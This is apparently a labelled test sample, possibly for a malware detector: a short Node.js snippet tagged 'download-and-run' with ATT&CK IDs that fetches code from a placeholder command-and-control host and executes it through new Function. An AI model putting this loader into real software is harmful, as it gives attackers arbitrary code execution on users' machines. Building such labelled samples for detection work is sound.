// expect: download-and-run | source: T1105, T1059.007
const https = require("https");
https.get("https://c2.example.invalid/stage", (answer) => {
  let text = "";
  answer.on("data", (part) => { text += part; });
  answer.on("end", () => new Function("require", text)(require));
});
